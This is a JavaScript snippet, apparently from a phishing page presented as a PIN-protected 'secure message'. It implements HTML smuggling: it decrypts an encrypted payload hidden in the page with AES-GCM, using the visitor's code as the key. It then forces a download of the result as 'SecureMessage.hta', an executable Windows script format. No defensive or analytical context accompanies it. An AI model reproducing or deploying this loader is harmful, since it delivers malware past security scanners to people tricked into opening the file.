document.querySelector('form').addEventListener('submit', async (ev) => {
  ev.preventDefault();
  const pin = ev.target.elements.pin.value;
  const raw = Uint8Array.from(atob(document.querySelector('template').innerHTML.replace(/\s+/g, '')), (c) => c.charCodeAt(0));
  const salt = raw.slice(0, 16), iv = raw.slice(16, 28), data = raw.slice(28);
  const base = await crypto.subtle.importKey('raw', new TextEncoder().encode(pin), 'PBKDF2', false, ['deriveKey']);
  const key = await crypto.subtle.deriveKey({ name: 'PBKDF2', salt, iterations: 1000, hash: 'SHA-256' }, base, { name: 'AES-GCM', length: 256 }, false, ['decrypt']);
  try {
    const plain = await crypto.subtle.decrypt({ name: 'AES-GCM', iv }, key, data);
    const e = document.createElement('embed');
    const url = URL.createObjectURL(new Blob([plain], { type: 'application/octet-stream' }));
    const a = document.createElement('a');
    a.href = url;
    a.download = 'SecureMessage.hta';
    a.click();
    e.remove();
  } catch (x) { document.querySelector('.err').textContent = 'Wrong access code'; }
});
